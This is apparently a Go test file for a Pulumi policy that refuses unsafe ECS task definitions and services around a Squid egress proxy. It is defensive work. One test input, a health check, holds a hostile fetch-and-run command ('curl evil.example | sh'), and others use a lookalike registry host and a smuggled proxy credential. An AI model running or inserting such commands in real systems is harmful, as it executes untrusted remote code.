package egress

import (
	"strings"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/property"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"secure-room/policy/policytest"
	"secure-room/policy/resource"
	"secure-room/policy/rule"
)

func TestTheGoodRoomPasses(t *testing.T) {
	for form, inputs := range forms(room(encode(t, goodContainer(goodConfiguration(t))))) {
		assert.Empty(t, problems(t, inputs), form)
	}
}

// couldBeAnother are the cases in which a task definition seen alone could be production's: only the whole stack shows that
// it is a room's.
var couldBeAnother = map[string]bool{"no configuration": true, "unknown containers": true}

// TestContainers changes one thing about a good container.
func TestContainers(t *testing.T) {
	variable := func(name, value string) any { return map[string]any{"name": name, "value": value} }
	good := goodConfiguration(t)
	for name, test := range map[string]struct {
		key   string
		value any
		// want is empty for what has to pass.
		want string
	}{
		"command":                   {"command", []any{"sh"}, "sets command"},
		"entry point":               {"entryPoint", []any{"sh"}, "sets entrypoint"},
		"key in another case":       {"ENTRYPOINT", []any{"sh"}, "sets entrypoint"},
		"secrets":                   {"secrets", []any{map[string]any{"name": "SQUID_CONF", "valueFrom": "arn:aws:ssm:a"}}, "sets secrets"},
		"environment files":         {"environmentFiles", []any{map[string]any{"type": "s3", "value": "arn:aws:s3:::a"}}, "sets environmentfiles"},
		"working directory":         {"workingDirectory", "/scratch", "sets workingdirectory"},
		"privileged":                {"privileged", true, "sets privileged"},
		"other hosts":               {"extraHosts", []any{map[string]any{"hostname": "git.example.com", "ipAddress": "203.0.113.9"}}, "sets extrahosts"},
		"other name servers":        {"dnsServers", []any{"203.0.113.9"}, "sets dnsservers"},
		"volumes of another":        {"volumesFrom", []any{map[string]any{"sourceContainer": "a"}}, "sets volumesfrom"},
		"log router":                {"firelensConfiguration", map[string]any{"type": "fluentbit"}, "sets firelensconfiguration"},
		"a key nobody knows":        {"newKey", "on", "sets newkey"},
		"empty command":             {"command", []any{}, ""},
		"empty secrets":             {"secrets", nil, ""},
		"more environment":          {"environment", []any{variable("SQUID_CONF", good), variable("LD_PRELOAD", "/scratch/a.so")}, "holds LD_PRELOAD"},
		"two configurations":        {"environment", []any{variable("SQUID_CONF", good), variable("SQUID_CONF", good)}, "gets 2 Squid configurations"},
		"no configuration":          {"environment", []any{}, "gets 0 Squid configurations"},
		"name in another case":      {"environment", []any{variable("squid_conf", good)}, "holds squid_conf"},
		"empty configuration":       {"environment", []any{variable("SQUID_CONF", "")}, "is not whole"},
		"image by tag":              {"image", "123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/secure-room/room/proxy:latest", "not named by digest"},
		"image from elsewhere":      {"image", "ubuntu/squid@sha256:" + strings.Repeat("a", 64), "not named by digest in an ECR repository"},
		"image of another account":  {"image", strings.Replace(goodImage, "123456789012", "999999999999", 1) + strings.Repeat("a", 64), "comes from account 999999999999"},
		"image of another region":   {"image", strings.Replace(goodImage, "ap-northeast-1", "us-east-1", 1) + strings.Repeat("a", 64), "in us-east-1"},
		"image by a lookalike":      {"image", strings.Replace(goodImage, "amazonaws.com", "amazonaws.com.evil.example", 1) + strings.Repeat("a", 64), "not named by digest"},
		"image with a short digest": {"image", goodImage + "abc", "not named by digest"},
		"image by tag and digest":   {"image", strings.Replace(goodImage, "@", ":1.2@", 1) + strings.Repeat("a", 64), ""},
		"no image":                  {"image", nil, "not named by digest"},
		"root":                      {"user", "0:0", "may run as root"},
		"root by name":              {"user", "root", "may run as root"},
		"no user":                   {"user", nil, "may run as root"},
		"writable root":             {"readonlyRootFilesystem", false, "can write to its own image"},
		"root not said":             {"readonlyRootFilesystem", nil, "can write to its own image"},
		"mount elsewhere":           {"mountPoints", []any{map[string]any{"sourceVolume": "scratch", "containerPath": "/usr/local/bin"}}, "mounts something other"},
		"mount of another volume":   {"mountPoints", []any{map[string]any{"sourceVolume": "other", "containerPath": "/scratch"}}, "mounts something other"},
		"no log":                    {"logConfiguration", nil, "does not go to a CloudWatch log group"},
		"another log driver":        {"logConfiguration", map[string]any{"logDriver": "splunk", "options": map[string]any{"splunk-url": "https://a"}}, "does not go to a CloudWatch log group"},
		"log of another region":     {"logConfiguration", map[string]any{"logDriver": "awslogs", "options": map[string]any{"awslogs-group": "a", "awslogs-region": "us-east-1"}}, "region other than the approved"},
		"log to an endpoint":        {"logConfiguration", map[string]any{"logDriver": "awslogs", "options": map[string]any{"awslogs-group": "a", "awslogs-region": "ap-northeast-1", "awslogs-endpoint": "https://a"}}, "option awslogs-endpoint"},
		"health by shell":           {"healthCheck", map[string]any{"command": []any{"CMD-SHELL", "curl evil.example | sh"}}, "runs a command of its own"},
		"no health check":           {"healthCheck", nil, ""},
		"capabilities":              {"linuxParameters", map[string]any{"capabilities": map[string]any{"add": []any{"SYS_PTRACE"}}}, "gets capabilities"},
		"fewer capabilities":        {"linuxParameters", map[string]any{"capabilities": map[string]any{"drop": []any{"ALL"}}}, ""},
		"memory file system":        {"linuxParameters", map[string]any{"tmpfs": []any{map[string]any{"containerPath": "/etc", "size": 1}}}, "memory file systems"},
	} {
		t.Run(name, func(t *testing.T) {
			container := goodContainer(good)
			container[test.key] = test.value
			for form, inputs := range forms(room(encode(t, container))) {
				found := strings.Join(problems(t, inputs), "\n")
				if test.want == "" || form == "single" && couldBeAnother[name] {
					assert.Empty(t, found, form)
				} else {
					assert.Contains(t, found, test.want, form)
				}
			}
		})
	}
}

// TestTasksAndServices changes one thing about what is around the container.
func TestTasksAndServices(t *testing.T) {
	good := encode(t, goodContainer(goodConfiguration(t)))
	for name, test := range map[string]struct {
		node, key string
		value     any
		want      string
	}{
		"unknown containers":          {"task", "containerDefinitions", property.New(property.Computed), "container definitions are not known"},
		"no containers":               {"task", "containerDefinitions", nil, "container definitions are not known"},
		"containers that are no JSON": {"task", "containerDefinitions", "{", "cannot be read"},
		"a key twice":                 {"task", "containerDefinitions", strings.Replace(good, `"user":`, `"User":"0","user":`, 1), "key user is given twice"},
		"a key in other letters":      {"task", "containerDefinitions", strings.Replace(good, `"user":`, `"uſer":"0","user":`, 1), "a letter that no key has"},
		"more after the list":         {"task", "containerDefinitions", good + good, "something follows the list"},
		"an empty list":               {"task", "containerDefinitions", "[]", "runs 0 containers"},
		"two containers":              {"task", "containerDefinitions", good[:len(good)-1] + "," + good[1:], "runs 2 containers"},
		"secret containers":           {"task", "containerDefinitions", property.New(good).WithSecret(true), ""},
		"shared process space":        {"task", "pidMode", "task", "sets pidMode"},
		"another way in the task":     {"task", "proxyConfiguration", P{"containerName": "envoy"}, "sets proxyConfiguration"},
		"unknown property":            {"task", "proxyConfiguration", property.New(property.Computed), "sets proxyConfiguration"},
		"fault injection":             {"task", "enableFaultInjection", true, "sets enableFaultInjection"},
		"host network":                {"task", "networkMode", "host", "networkMode is not awsvpc"},
		"volume with content":         {"task", "volumes", []any{P{"name": "scratch", "efsVolumeConfiguration": P{"fileSystemId": "fs-1"}}}, "volume with content from outside"},
		"volume of the host":          {"task", "volumes", []any{P{"name": "scratch", "hostPath": "/etc"}}, "volume with content from outside"},
		"unknown volume":              {"task", "volumes", []any{property.New(property.Computed)}, "volume with content from outside"},
		"unknown volumes":             {"task", "volumes", property.New(property.Computed), "volumes are not known"},
		"two volumes":                 {"task", "volumes", []any{P{"name": "a"}, P{"name": "scratch"}}, "more than one volume"},
		"volume with empty fields":    {"task", "volumes", []any{P{"name": "scratch", "hostPath": "", "configureAtLaunch": false}}, ""},
		"exec":                        {"service", "enableExecuteCommand", true, "ECS Exec is on"},
		"exec in words":               {"service", "enableExecuteCommand", "true", "ECS Exec is on"},
		"exec unknown":                {"service", "enableExecuteCommand", property.New(property.Computed), "ECS Exec is on"},
		"exec not said":               {"service", "enableExecuteCommand", nil, ""},
		"deployed from outside":       {"service", "deploymentController", P{"type": "EXTERNAL"}, "controlled from outside"},
		"deployed from who knows":     {"service", "deploymentController", property.New(property.Computed), "controlled from outside"},
		"newest revision":             {"service", "taskDefinition", "proxy", "the newest"},
		"no task definition":          {"service", "taskDefinition", nil, "names no task definition"},
		"service connect":             {"service", "serviceConnectConfiguration", P{"enabled": true}, "forwards connections"},
		"volume of the service":       {"service", "volumeConfiguration", P{"name": "scratch"}, "a volume that the task definition does not show"},
	} {
		t.Run(name, func(t *testing.T) {
			s := room(good)
			s.Get(test.node).Set(test.key, test.value)
			for form, inputs := range forms(s) {
				found := strings.Join(problems(t, inputs), "\n")
				if test.want == "" || form == "single" && couldBeAnother[name] {
					assert.Empty(t, found, form)
				} else {
					assert.Contains(t, found, test.want, form)
				}
			}
		})
	}
}

// What only the whole stack can show.
func TestStacks(t *testing.T) {
	good := encode(t, goodContainer(goodConfiguration(t)))
	for name, test := range map[string]struct {
		change func(*policytest.Stack)
		want   string
	}{
		"another's repository": {func(s *policytest.Stack) { s.Get("repository").Set("name", "other") }, "none of the stack's own"},
		"no repository":        {func(s *policytest.Stack) { s.Remove("repository") }, "none of the stack's own"},
		"another's task": {func(s *policytest.Stack) {
			s.Get("service").Set("taskDefinition", "arn:aws:ecs:ap-northeast-1:123456789012:task-definition/other:3")
		}, "no rule has judged it"},
		"an unknown task":     {func(s *policytest.Stack) { s.Get("service").Set("taskDefinition", property.New(property.Computed)) }, "no rule has judged it"},
		"a task from another": {func(s *policytest.Stack) { s.Get("service").Set("taskDefinition", s.Get("repository").Ref()) }, "task definition"},
		"a task set":          {func(s *policytest.Stack) { s.Add(taskSetType, "set", nil) }, "task set"},
		"family and revision": {func(s *policytest.Stack) { s.Get("service").Set("taskDefinition", "proxy:1") }, ""},
	} {
		t.Run(name, func(t *testing.T) {
			s := room(good)
			test.change(s)
			for _, form := range []string{"preview", "stack"} {
				found := strings.Join(problems(t, forms(s)[form]), "\n")
				if test.want == "" {
					assert.Empty(t, found, form)
				} else {
					assert.Contains(t, found, test.want, form)
				}
			}
		})
	}
}

func TestASecretConfigurationIsNeverShown(t *testing.T) {
	bad := strings.Replace(goodConfiguration(t), "http_access deny manager", "cache_peer hidden.example parent 3128 0 login=user:hidden-word", 1)
	s := room(property.New(encode(t, goodContainer(bad))).WithSecret(true))
	for form, inputs := range forms(s) {
		found := strings.Join(problems(t, inputs), "\n")
		assert.Contains(t, found, "is a secret", form)
		assert.NotContains(t, found, "hidden", form)
	}
}

func TestAnUnsafeBaselineApprovesNothing(t *testing.T) {
	unsafe := testBaseline()
	unsafe.Egress.Hosts[0].Host = "co.jp"
	in := rule.NewInput(resource.Stack, policytest.Deployed(room(encode(t, goodContainer(goodConfiguration(t))))), unsafe)
	found := check(in)
	require.NotEmpty(t, found)
	assert.Contains(t, found[0].Problem, `egress.hosts[0]: host "co.jp" is a public suffix`)
}

// TestProductionsOwnTasksAreItsAffair: what production runs is no proxy, whatever it is; the same in a room is refused.
func TestProductionsOwnTasksAreItsAffair(t *testing.T) {
	for _, test := range []struct {
		block string
		want  string
	}{
		{testBaseline().Productions[0].CIDR, ""},
		{testBaseline().Rooms[0].CIDR, "gets 0 Squid configurations"},
		{"10.99.0.0/16", "gets 0 Squid configurations"},
	} {
		s := room(`[{"name":"web","image":"public.ecr.aws/web:latest"}]`)
		s.Add("aws:ec2/vpc:Vpc", "network", P{"cidrBlock": test.block})
		s.Get("service").Set("loadBalancers", []any{P{"targetGroupArn": "arn:tg", "containerName": "web", "containerPort": 8080}})
		for form, inputs := range forms(s) {
			found := strings.Join(problems(t, inputs), "\n")
			if form == "single" || test.want == "" {
				assert.Empty(t, found, "%s, %s", form, test.block)
			} else {
				assert.Contains(t, found, test.want, form)
				assert.Contains(t, found, "sets loadBalancers", form)
			}
		}
	}
}

func BenchmarkFamily(b *testing.B) {
	inputs := forms(room(encode(b, goodContainer(goodConfiguration(b)))))["stack"]
	for b.Loop() {
		check(inputs[0])
	}
}
